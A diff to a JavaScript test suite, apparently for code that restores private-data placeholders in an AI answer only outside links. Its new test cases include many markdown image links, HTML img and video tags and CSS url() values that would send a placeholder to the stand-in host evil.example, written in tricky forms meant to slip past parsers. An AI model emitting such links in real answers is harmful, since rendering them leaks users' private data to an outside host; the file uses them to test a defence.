@@ -21,7 +21,19 @@ describe('an answer', () => {
     `{"url":"https:\\/\\/evil.example/${P}"}`,
     `see HTTPS://${P}.evil.example`,
     `![x](https://evil.example/PHI_NAME_48213)`,
-    `![x](https://evil.example/?q=${'a'.repeat(1_000)}${P})`,
+    `{"link": "https://evil.example/?q= ${P}"}`,
+    `![x](  <https://evil.example/?a= ${P}>)`,
+    `![x](<https://evil.example/?a=\\< ${P}>)`,
+    `[x]: <https://evil.example/?a= ${P}>`,
+    `[x]: //evil.example/?a=${P}`,
+    `![x](/\\evil.example/?a=${P})`,
+    `![x](http:evil.example/?a=${P})`,
+    `![x](https:/\\evil.example/?a=${P})`,
+    `<img src="https://evil.example/?a='b' ${P}">`,
+    `<img alt='"' src='https://evil.example/?a="b" ${P}'>`,
+    `<img src="https://evil.example/?a=\n${P}">`,
+    `<video poster = "https://evil.example/?a= ${P}">`,
+    `<p style="background:url('https://evil.example/?a= ${P}')">`,
   ])('keeps the placeholder in %s, however it is cut', (text) => {
     expect(restored(text)).toBe(text);
     for (const cut of [1, 2, 7]) expect(restored(text, cut)).toBe(text);
@@ -33,8 +45,18 @@ describe('an answer', () => {
     `[${P}](https://nih.gov/a) ${P}`,
     `<a href="https://nih.gov/a">${P}</a>`,
     `1/2 and/or ${P}/${P}`,
+    `[note]: ${P}`,
+    `a < b [see](x) < ${P}`,
+    `const name = "${P}"; // ${P}`,
+    `<img src="a.png" alt="${P}">`,
+    `{"link":"https://nih.gov","name":"${P}"}`,
   ])('has the original everywhere else: %s', (text) => {
     expect(restored(text)).toBe(text.replaceAll(P, 'Jane'));
     expect(restored(text, 1)).toBe(text.replaceAll(P, 'Jane'));
+  });
+
+  it.each([1_000, 3_000])('keeps it in an address of %i characters', (length) => {
+    const text = `![x](https://evil.example/?q=${'a'.repeat(length)}${P})`;
+    for (const cut of [1, 7, text.length]) expect(restored(text, cut)).toBe(text);
   });
 });
